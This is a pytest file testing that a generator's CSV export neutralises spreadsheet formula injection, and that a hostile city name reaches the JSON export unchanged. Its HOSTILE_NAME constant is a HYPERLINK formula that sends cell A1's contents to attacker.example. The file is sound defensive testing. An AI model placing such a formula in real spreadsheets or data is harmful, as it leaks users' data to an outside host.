"""The examples export: a CSV cell a spreadsheet would run as a formula is written as text (OWASP CSV injection)."""
from __future__ import annotations

import csv
import io
import json
import shutil

import pytest

from generator import load_library
from generator.export import spreadsheet_cell, to_csv, to_json
from tests.conftest import FIXTURE_CONTENT

HOSTILE_NAME = '=HYPERLINK("http://attacker.example/?leak="&A1,"Ghent")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_gets_an_apostrophe(start):
    assert spreadsheet_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("value", ["Ghent", "a = b", "2018", 2018, " =1", "'quoted'", ""])
def test_other_cells_are_left_as_they_are(value):
    assert spreadsheet_cell(value) == value


def test_a_list_is_joined_before_it_is_judged():
    assert spreadsheet_cell(["-x", "y"]) == "'-x; y"
    assert spreadsheet_cell(["procurement", "data"]) == "procurement; data"


def test_a_hostile_city_name_reaches_the_csv_as_text_and_the_json_as_it_is(tmp_path):
    content = tmp_path / "content"
    shutil.copytree(FIXTURE_CONTENT, content)
    cities = content / "cities.yaml"
    text = cities.read_text(encoding="utf-8")
    assert "name: Ghent\n" in text
    cities.write_text(text.replace("name: Ghent\n", f"name: '{HOSTILE_NAME}'\n", 1), encoding="utf-8")
    library = load_library(content)

    rows = list(csv.DictReader(io.StringIO(to_csv(library))))
    ghent = [row for row in rows if row["city"] == "ghent"]
    assert ghent and all(row["city_name"] == "'" + HOSTILE_NAME for row in ghent)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    records = json.loads(to_json(library))
    assert {r["city_name"] for r in records if r["city"] == "ghent"} == {HOSTILE_NAME}
